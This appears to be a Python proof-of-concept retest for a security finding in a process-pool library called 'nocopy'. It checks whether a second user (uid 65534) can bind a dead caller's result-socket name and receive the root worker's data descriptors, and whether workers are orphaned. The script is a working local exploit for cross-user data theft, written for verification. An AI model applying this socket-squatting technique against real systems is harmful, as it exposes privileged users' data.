# ADAPTED COPY (nocopy sockets are now pathname sockets in private dirs)
# Old finding 1: another user (65534) binds the executor's abstract result-socket name after the
# caller is SIGKILLed mid-task and receives the root worker's result descriptor.
# Adapted: N trials (fork and spawn workers); count results received by the other user and
# workers still alive 2 s after their caller died.
import os, socket, time, signal, sys, multiprocessing as mp
import numpy as np, nocopy

N = 4


def task():
    time.sleep(3)
    return np.frombuffer(b"SECRET-OF-ROOT " * 100000, np.uint8)


def victim(method, wfd, gofd):
    ex = nocopy.ProcessPoolExecutor(1, mp_context=mp.get_context(method))
    ex.submit(task)
    time.sleep(1.0)
    os.write(wfd, (" ".join(map(str, ex._processes)) + "\n").encode())
    os.read(gofd, 1)  # the spy has seen our socket name
    os.kill(os.getpid(), signal.SIGKILL)


def trial(method):
    r, w = os.pipe()
    gr, gw = os.pipe()
    vpid = os.fork()
    if vpid == 0:
        os.close(r)
        try:
            victim(method, w, gr)
        finally:
            os._exit(1)
    os.close(w)
    workers = [int(p) for p in os.read(r, 200).split()]
    os.close(r)
    spy = os.fork()
    if spy == 0:
        # the other user: wait for the name to vanish, bind it, accept a hand-over
        os.setgid(65534); os.setuid(65534)
        tag = f"/nocopy-res-{vpid}-"
        seen = set()
        end = time.time() + 8
        got = 0
        bound = False
        while time.time() < end:
            names = {l.split()[-1] for l in open("/proc/net/unix") if tag in l}
            if names and not seen:
                os.write(gw, b"g")
            seen |= names
            gone = seen - names
            if gone:
                s = socket.socket(socket.AF_UNIX)
                try:
                    s.bind(gone.pop())
                except OSError:
                    continue
                bound = True
                s.listen(8); s.settimeout(max(0.1, end - time.time()))
                try:
                    while True:
                        c, _ = s.accept()
                        c.settimeout(2)
                        try:
                            msg, fds, _, _ = socket.recv_fds(c, 512, 1)
                        except OSError:
                            msg, fds = b"", []
                        if fds:
                            got += 1
                        c.sendall(b"K")
                except OSError:
                    pass
                break
            time.sleep(0.002)
        os._exit((10 + got) if bound else 5)
    os.waitpid(vpid, 0)
    died = time.time()
    time.sleep(2.0)
    alive = [p for p in workers if os.path.exists(f"/proc/{p}") and open(f"/proc/{p}/stat").read().split()[2] != "Z"]
    _, st = os.waitpid(spy, 0)
    code = os.waitstatus_to_exitcode(st)
    bound = code != 5
    stolen = code - 10 if bound else 0
    for p in alive:  # our own leftovers only
        try:
            os.kill(p, signal.SIGKILL)
        except OSError:
            pass
    return stolen, len(alive), bound


if __name__ == "__main__":
    total_stolen = total_alive = trials = binds = 0
    for method in ("fork", "spawn"):
        for _ in range(N):
            stolen, alive, bound = trial(method)
            binds += bound
            trials += 1
            total_stolen += max(stolen, 0)
            total_alive += alive
            print(f"{method}: other user bound the dead caller's name: {bound}; descriptors received by uid 65534: {stolen}; workers alive 2 s after caller death: {alive}", flush=True)
    v = "vulnerable" if total_stolen or total_alive else "safe"
    print(f"VERDICT: {v} {total_stolen} results stolen, {total_alive} orphan workers in {trials} trials (name re-bound by uid 65534 in {binds})")
